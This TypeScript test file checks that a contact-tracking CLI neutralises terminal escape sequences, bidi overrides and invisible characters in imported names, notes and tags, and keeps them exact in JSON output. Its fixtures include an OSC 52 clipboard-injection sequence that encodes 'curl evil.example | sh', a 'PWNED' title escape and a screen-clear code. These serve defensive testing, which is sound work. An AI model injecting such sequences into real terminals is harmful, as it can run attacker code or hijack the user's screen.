// Names, companies, notes and tags as any import can bring them: escape sequences (OSC 52 writes
// the clipboard, OSC 0 the window title, CSI 2J clears the screen), BEL, the C1 CSI, bidi
// overrides and invisible characters. Every human view shows them visibly and inertly; --json
// keeps them exact.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { displayWidth, loadWidthsFor } from "../../src/render/width.js";
import { type CliOutput, runCli } from "../helpers/run-cli.js";
import { type TestCtx, tempDir, testCtx } from "../helpers/ctx.js";

const TODAY = "2026-11-25";
const OSC52 = `\u001b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\u0007`;
const OSC0 = "\u001b]0;PWNED\u0007";
const CLEAR = "\u001b[2J";
const HOSTILE = `${OSC52}${OSC0}${CLEAR}\u009b2J\u202eesreveR\u202c\u200b\ufeff\r`;

const NAME = `Zed ${HOSTILE}Person`;
const COMPANY = `Acme ${CLEAR}\u202e Corp\u200b\ufeff\rInc`;
const NOTES = `first ${OSC0}line\nsecond \u202e\u200b\ufeff\u009b line\r\nthird`;
const TAGS = ["vip\u202e", "zero\u200bwid\ufeffth"];
const NOTE = `talked ${OSC52} about\r\nthe \u202emove\u200b\ufeff\u0007`;
const FOLLOW_UP = `send ${CLEAR}the deck\u202e\u200b`;
const TWIN = `Zed Twin ${OSC0}\u202e`;
const TWIN_COMPANY = `Twin ${CLEAR}Co\u200b`;
const UPCOMING = `Up ${OSC52}Coming\u202e`;

/** What must never reach the terminal from stored text: C0 but \n, DEL, C1, bidi controls, ZWSP, BOM. */
const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b\ufeff]/u;

const VCARDS = [
  "BEGIN:VCARD",
  "VERSION:4.0",
  `FN:${TWIN}`,
  `ORG:${TWIN_COMPANY}`,
  `NOTE:twin ${OSC0}notes`,
  "END:VCARD",
  "BEGIN:VCARD",
  "VERSION:4.0",
  "FN:Bad Email",
  `EMAIL:bad${CLEAR}\u202e@`,
  "END:VCARD",
].join("\r\n");

const CONNECTIONS = [
  "First Name,Last Name,URL,Email Address,Company,Position,Connected On",
  `Lin${CLEAR},Kedin\u202e,,,Link${OSC0}Co,Boss\u200b,05 Mar 2024`,
  `Bad,Url,https://evil.example/${CLEAR}\u202e,,,,05 Mar 2024`,
  `Bad,Date,,,,,05 ${OSC0}Mar\u200b`,
].join("\n");

async function hostileDatabase(): Promise<{ ctx: TestCtx; human: (...argv: string[]) => Promise<CliOutput>; outputs: Array<CliOutput & { argv: string }>; notified: string[][] }> {
  const dir = tempDir();
  const dbPath = join(dir, "netlog.db");
  const notified: string[][] = [];
  // Added in September, so that today they are due.
  const september = testCtx({ today: "2026-09-01", dbPath });
  const ctx = testCtx({ today: TODAY, dbPath, programs: { "notify-send": (args) => (notified.push([...args]), { kind: "exited", code: 0, stdout: "", stderr: "" }) } });
  const outputs: Array<CliOutput & { argv: string }> = [];
  const run =
    (on: TestCtx) =>
    async (...argv: string[]) => {
      const output = await runCli(on, argv);
      if (output.error) throw new Error(`netlog ${argv.join(" ")} failed: ${output.error.message}`);
      outputs.push({ ...output, argv: argv.join(" ") });
      return output;
    };
  writeFileSync(join(dir, "cards.vcf"), VCARDS);
  writeFileSync(join(dir, "Connections.csv"), CONNECTIONS);
  const then = run(september);
  await then(
    "contact",
    "add",
    NAME,
    "--company",
    COMPANY,
    "--title",
    `Boss${CLEAR}\u200b`,
    "--location",
    `Spokane\u202e`,
    "--met",
    `at ${OSC0}`,
    "--note",
    NOTES,
    "--every",
    "2w",
    ...TAGS.flatMap((t) => ["--tag", t]),
  );
  await then("import", "vcard", join(dir, "cards.vcf"), "--skip-invalid", "--every", "monthly");
  await then("import", "linkedin", join(dir, "Connections.csv"), "--skip-invalid");
  const human = run(ctx);
  await human("contact", "add", UPCOMING, "--every", "monthly");
  return { ctx, human, outputs, notified };
}

/** The outputs that let a forbidden character through, with what they printed. */
function leaks(outputs: ReadonlyArray<CliOutput & { argv: string }>): Array<[string, string]> {
  return outputs.flatMap((o) => [o.stdout, o.warning ?? ""].filter((text) => FORBIDDEN.test(text)).map((text): [string, string] => [o.argv, JSON.stringify(text)]));
}

describe("stored text with escape codes, bidi controls and invisible characters", () => {
  it("reaches no human view as it is, and every view shows it visibly", async () => {
    const { human, outputs, notified } = await hostileDatabase();
    await human("add", "#1", "--via", "email", "--two-way", "--date", "2026-10-01", "--note", NOTE, "--follow-up", "2026-12-04", "--follow-up-note", FOLLOW_UP);
    await human("add", `Zed Twim ${OSC0}`, "--new", "--via", "phone"); // close to the twin: a warning
    for (const due of [["due"], ["due", "--all"], ["due", "--within", "40d"], ["due", "--on", "2026-12-20", "--notify"]]) await human(...due);
    await human("contact", "show", "#1");
    await human("contact", "list");
    await human("contact", "list", "--all");
    await human("search", "esrever");
    await human("search", "move");
    await human("search", "acme");
    await human("stats");
    await human("log");
    await human("log", "#1");
    await human("follow-up", "list");
    await human("tag", "list");
    await human("tag", "set", TAGS[0]!, "--every", "30d");
    await human("log", "edit", "1", "--note", `edited ${CLEAR}\u202e note`);
    await human("contact", "edit", "#1", "--company", `New ${OSC0}Co\u200b`, "--note", `new ${OSC52}notes`);
    await human("snooze", "#1", "2w", "--note", `away ${CLEAR}\u202e`);
    await human("contact", "show", "#1");
    await human("dismiss", "#2");
    await human("follow-up", "#2", "next friday", `call ${OSC0}back\u200b`);
    await human("follow-up", "done", "#2");
    await human("pause", "#2");
    await human("resume", "#2");
    await human("contact", "archive", "#3");
    await human("contact", "unarchive", "#3");
    await human("undo", "--list");
    await human("undo");
    await human("log", "rm", "1");
    await human("contact", "merge", "#1", "#2", "--yes");
    await human("contact", "rm", "#3", "--yes");
    await human("doctor").catch(() => undefined);
    // A file name is text from outside too: the import summary names it.
    const exported = join(tempDir(), `export ${CLEAR}\u202e.json`);
    await human("export", "json", "--out", exported);
    await human("import", "json", exported);

    expect(leaks(outputs)).toEqual([]);
    expect(notified.map((args) => args.filter((a) => FORBIDDEN.test(a)))).toEqual([[]]);
    // Not dropped: shown, as control pictures and tokens.
    const shown = outputs.map((o) => o.stdout).join("");
    expect(shown).toContain("Zed ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛]0;PWNED␇␛[2J⟨U+009B⟩2J⟨U+202E⟩esreveR⟨U+202C⟩⟨U+200B⟩⟨U+FEFF⟩ Person");
    expect(shown).toContain("#vip⟨U+202E⟩");
    expect(shown).toContain("  skipped line 3: 'https://evil.example/␛[2J⟨U+202E⟩' is not a LinkedIn profile URL");
    expect(shown).toContain("  Company   Acme ␛[2J⟨U+202E⟩ Corp⟨U+200B⟩⟨U+FEFF⟩ Inc\n");
    // The morning lists and follow-ups fit 80 columns, tokens and all (measured as drawn).
    await loadWidthsFor(["\u4e00"]);
    const fitted = outputs.filter((o) => /^(due|follow-up list)/.test(o.argv)).flatMap((o) => o.stdout.split("\n"));
    expect(fitted.filter((line) => displayWidth(line) > 80)).toEqual([]);
    expect(fitted.length).toBeGreaterThan(20);
    expect(outputs.find((o) => o.warning)?.warning).toContain("Zed Twim ␛]0;PWNED␇ is a new contact, close to Zed Twin ␛]0;PWNED␇⟨U+202E⟩");
  });

  it("shows a contact's notes line by line, each line neutralised", async () => {
    const { human } = await hostileDatabase();
    const { stdout } = await human("contact", "show", "#1");
    expect(stdout).toContain(["  Notes     first ␛]0;PWNED␇line", "            second ⟨U+202E⟩⟨U+200B⟩⟨U+FEFF⟩⟨U+009B⟩ line", "            third"].join("\n"));
    expect(stdout).toContain("  Tags      vip⟨U+202E⟩, zero⟨U+200B⟩wid⟨U+FEFF⟩th");
  });

  it("keeps --json exact", async () => {
    const { human, ctx } = await hostileDatabase();
    await human("add", "#1", "--via", "email", "--date", "2026-10-01", "--note", NOTE, "--follow-up", "2026-12-04", "--follow-up-note", FOLLOW_UP);
    const json = async (...argv: string[]) => JSON.parse((await runCli(ctx, [...argv, "--json"])).stdout);
    const profile = await json("contact", "show", "#1");
    expect([profile.name, profile.company, profile.notes, profile.tags, profile.interactions[0].note]).toEqual([NAME.trim(), COMPANY, NOTES, [...TAGS].sort(), NOTE]);
    expect((await json("due", "--all", "--on", "2026-12-20")).map((i: { name: string }) => i.name)).toContain(NAME.trim());
    expect((await json("contact", "list")).map((c: { name: string }) => c.name)).toEqual(expect.arrayContaining([NAME.trim(), TWIN.trim()]));
    expect((await json("search", "esrever")).results[0].name).toBe(NAME.trim());
    expect((await json("log"))[0].note).toBe(NOTE);
    expect((await json("follow-up", "list"))[0].note).toBe(FOLLOW_UP);
    expect((await json("stats")).longest_neglected.map((c: { name: string }) => c.name)).toContain(NAME.trim());
  });
});
